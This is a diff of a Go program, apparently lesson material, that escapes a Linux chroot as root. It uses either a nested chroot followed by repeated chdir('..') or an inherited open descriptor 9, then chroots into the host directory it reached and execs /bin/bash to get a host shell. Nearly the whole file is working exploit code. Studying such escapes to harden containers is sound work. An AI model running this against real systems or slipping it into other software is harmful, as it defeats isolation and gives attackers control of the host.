@@ -1,6 +1,6 @@
 //go:build linux
 
-// Two ways out of a chroot, for the lesson. Root in a container of this step runs it and gets a shell on the host.
+// Two ways out of a chroot, for the lesson. Run this program as root in a container of this step, and you get a shell on the host.
 package main
 
 import (
@@ -18,34 +18,38 @@ func main() {
 	}
 	err := ways[os.Args[1]]()
 	if err == nil {
-		// Wherever the way ended is the root directory now.
-		err = unix.Chroot(".")
-	}
-	if err == nil {
-		err = unix.Exec("/bin/bash", []string{"bash"}, os.Environ())
+		err = shell()
 	}
 	fmt.Fprintf(os.Stderr, "escape %s: %v\n", os.Args[1], err)
 	os.Exit(125)
 }
 
-// deeper moves the root directory below the working directory, which it leaves alone. A process cannot go up from its root
-// directory, but it is not there: it is above, where nothing stops it. chroot(2)
+// deeper moves the root directory below the working directory, then walks up. The kernel stops a process that goes up only at
+// the process's root directory, and this process never comes past its root directory again. chroot(2)
 func deeper() error {
 	if err := unix.Chroot("/tmp"); err != nil {
-		return fmt.Errorf("chroot: %w", err)
+		return fmt.Errorf("chroot /tmp: %w", err)
 	}
 	for range 64 {
 		if err := unix.Chdir(".."); err != nil {
-			return fmt.Errorf("chdir: %w", err)
+			return fmt.Errorf("chdir ..: %w", err)
 		}
 	}
 	return nil
 }
 
-// descriptor goes to a directory of the host that the caller has left open as descriptor 9. fchdir(2)
+// descriptor goes to a directory of the host that somebody outside has left open as descriptor 9. fchdir(2)
 func descriptor() error {
 	if err := unix.Fchdir(9); err != nil {
 		return fmt.Errorf("fchdir to descriptor 9: %w", err)
 	}
 	return nil
+}
+
+// shell makes the working directory, which is a directory of the host now, the root directory. Then it becomes a shell there.
+func shell() error {
+	if err := unix.Chroot("."); err != nil {
+		return fmt.Errorf("chroot to the working directory: %w", err)
+	}
+	return fmt.Errorf("exec /bin/bash: %w", unix.Exec("/bin/bash", []string{"bash"}, os.Environ()))
 }
